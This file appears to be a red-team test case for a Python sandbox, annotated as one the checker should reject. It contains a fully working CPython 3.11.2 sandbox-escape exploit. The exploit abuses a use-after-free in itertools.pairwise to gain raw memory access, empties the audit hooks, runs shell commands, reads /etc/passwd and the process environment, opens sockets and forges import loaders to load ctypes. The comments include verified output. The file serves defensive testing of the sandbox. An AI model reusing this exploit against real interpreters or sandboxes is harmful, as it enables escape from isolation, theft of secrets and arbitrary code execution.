# expect: reject memory
# line: 78
# verified: the runtime wall's red team, round 8, ok_01 (sandbox image, wall on, checker off: every goal reached); the checker also refuses it for other rules (sys.modules, frames, open)
#
# ok_01: FULL ESCAPE: itertools.pairwise re-entrancy use-after-free -> raw memory -> audit hook list emptied
#
# Family: memory safety of CPython 3.11.2 (not gh-120384, no array, no ctypes, no frame trick).
# Mechanism: itertools.pairwise re-entered from its own iterator's __next__ (gh-109786, fixed
#   in 3.11.7 / 3.12.1; the image's 3.11.2 has it). The outer pairwise_next keeps `old`
#   (po->old) borrowed while it calls the iterator; the re-entrant next(p) replaces
#   po->old and the program drops the inner result tuple: `old` (a fresh 68-byte int) is
#   freed; the program takes its 80-byte block back with a bytearray's 73-byte buffer
#   holding a fake PyByteArrayObject (ob_type = id(bytearray), ob_size = 2**62,
#   ob_start = NULL); the outer call then packs the dangling pointer into the tuple it
#   returns: r[0] is a bytearray viewing all memory from address 0, with no audit event.
#   Then as wall7 ok_05: id(type) + constant = the main interpreter (PIE moves the binary
#   as a whole); its audit_hooks list (one function named "hook") gets ob_size 0: the
#   interpreter has no audit hook any more. After that: os.system, open, socket (socket
#   comes with asyncio's preload part), sys._getframe up to the entrypoint's frames and
#   globals, gc.get_objects; and a native library: _imp's loaders (the wall's `denied`
#   stubs; the originals are gone) are forged back as copies of real _imp builtin
#   function objects whose m_ml points at the create_dynamic / exec_dynamic entries of
#   imp_methods[], then ctypes is imported and libc's getpid/getuid called.
# Goals reached: remove the audit hook; run a process (id); read /etc/passwd; print the
#   environment (/proc/self/environ); open an AF_INET socket; frames of the entrypoint and
#   its globals; load a native library (ctypes, libc).
# Plain python3 (the image's interpreter: docker run --network none --entrypoint python3
#   safe-exec-sandbox:wall7c -I -): same primitive, first try; no hook list found (none
#   there); id, passwd, environ, socket, ctypes all work.
# Deterministic: first try in every run (about 10 runs).
#
# sb-run --full output (SAFE_EXEC_IMAGE=safe-exec-sandbox:wall7c exported in the same shell,
#   wall on, checker off; array.array.__setitem__ is the wall's wrapper there):
#   status: ok   exit_code: 0   
#   duration 104 ms, cpu 37 ms, memory peak 23488 KiB, fresh container
#   --- stdout (756 bytes)
#   bytearray of 0x4000000000000000 bytes at address 0
#   interp+3552: the interpreter's audit hooks: [function b'hook']
#   audit hook list emptied
#   uid=10001(sandbox) gid=10001(sandbox) groups=10001(sandbox)
#   root:x:0:0:root:/root:/bin/bash
#   daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
#   b'PATH=/usr/local/bin:/usr/bin:/bin HOSTNAME=6546bfcd99d7 LANG=C.UTF-8 HOME=/home/sandbox '
#   AF_INET socket: <socket.socket fd=3, family=2, type=1, proto=0, laddr=('0.0.0.0', 0)>
#   frame: run_user_code | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: runner | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: main | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: <module> | globals: None False
#   ctypes loaded, libc getpid() = 7 getuid() = 10001
#   --- stderr (0 bytes)

import itertools, sys
import asyncio   # its preload part brings socket (and _socket) before the run
os = sys.modules["os"]
keep = []
BASE = 1 << 280
def raw_memory():
    """itertools.pairwise re-entered from its iterator's __next__ (gh-109786): the outer
    call packs its `old`, freed meanwhile by the inner call, into the tuple it returns.
    Its 80-byte block is taken back by a bytearray's buffer holding a fake bytearray
    header: length 2**62, data at address 0."""
    W = lambda v: v.to_bytes(8, "little")
    fake = (W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62) + W(0) + W(0) + W(1)
            + bytes(16))                      # 72 bytes: a 73-byte buffer, A's size class
    class It:
        n = 0
        def __iter__(s): return s
        def __next__(s):
            s.n += 1
            if s.n == 1:
                return BASE + s.n            # A: a fresh int (68 bytes), held by po->old only
            if s.n == 2:
                t = next(p)                  # re-entered: po->old = B; A is held by t only
                del t                        # A freed; the outer call still packs it
                keep.append(bytearray(fake)) # the buffer takes A's block
                return "C"
            return "B"
    p = itertools.pairwise(It())
    r = next(p)
    keep.append((r, p))
    return r[0]
mem = raw_memory()
print(type(mem).__name__, "of", hex(len(mem)), "bytes at address 0", flush=True)
rd = lambda a: int.from_bytes(mem[a:a + 8], "little")
# image's /usr/bin/python3.11 (3.11.2): &_PyRuntime - &PyType_Type, main interpreter,
# audit_hooks (measured for wall7 ok_05 with ctypes outside the sandbox)
OFF_RT, OFF_INTERP, OFF_HOOKS = 1060224, 58936, (3552, 3880)
interp = id(type) + OFF_RT + OFF_INTERP
for off in OFF_HOOKS:
    lst = rd(interp + off)
    if not lst or rd(lst + 8) != id(list) or rd(lst + 16) != 1:
        continue
    fn = rd(rd(lst + 24))
    if rd(fn + 8) != id(type(raw_memory)):
        continue
    name = rd(fn + 32)                                      # func_name
    text = bytes(mem[name + 48:name + 48 + rd(name + 16)])  # compact ASCII str
    print("interp+%d: the interpreter's audit hooks: [function %r]" % (off, text))
    if text == b"hook":
        mem[lst + 16:lst + 24] = bytes(8)                   # ob_size = 0: no hook
        print("audit hook list emptied", flush=True)
os.system("id; head -2 /etc/passwd")
print(open("/proc/self/environ", "rb").read().replace(b"\0", b" "))
socket = sys.modules["socket"]
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); print("AF_INET socket:", s)
# frames and globals of the entrypoint (sys._getframe is no longer audited)
f = sys._getframe(0)
while f.f_back is not None:
    f = f.f_back
    print("frame:", f.f_code.co_name, "| globals:", f.f_globals.get("__file__"), "WALL_EXIT" in f.f_globals)
# a native library: _imp's loaders are the wall's stubs and the originals are gone;
# forged back with the memory view: a copy of a real _imp function object whose m_ml
# points at the method table entry of create_dynamic / exec_dynamic.
_imp = sys.modules["_imp"]
def entry(name):
    ml0 = rd(id(_imp.is_builtin) + 16)             # PyCFunctionObject.m_ml (imp_methods[])
    for k in range(0, 16):                          # the loaders follow is_builtin
        p = rd(ml0 + 32 * k)
        if p == 0:
            return None
        if bytes(mem[p:p + len(name) + 1]) == name + b"\0":
            return ml0 + 32 * k
keepalive = []
def forge(model, name):
    # 16 zero bytes (an untracked GC head), then a copy of the model with m_ml changed
    buf = bytearray(16) + bytearray(mem[id(model):id(model) + 56])
    buf[16:24] = (1 << 40).to_bytes(8, "little")
    buf[32:40] = entry(name).to_bytes(8, "little")
    keepalive.append(buf)
    addr = rd(id(buf) + 32) + 16                    # the bytearray's ob_start + 16
    holder = [None]
    mem[rd(id(holder) + 24):rd(id(holder) + 24) + 8] = addr.to_bytes(8, "little")
    return holder[0]
_imp.create_dynamic = forge(_imp._fix_co_filename, b"create_dynamic")   # METH_FASTCALL
_imp.exec_dynamic = forge(_imp.is_builtin, b"exec_dynamic")           # METH_O
ctypes = sys.modules["importlib"].import_module("ctypes")
libc = ctypes.CDLL("libc.so.6")
print("ctypes loaded, libc getpid() =", libc.getpid(), "getuid() =", libc.getuid())
sys.stdout.flush()
os._exit(0)
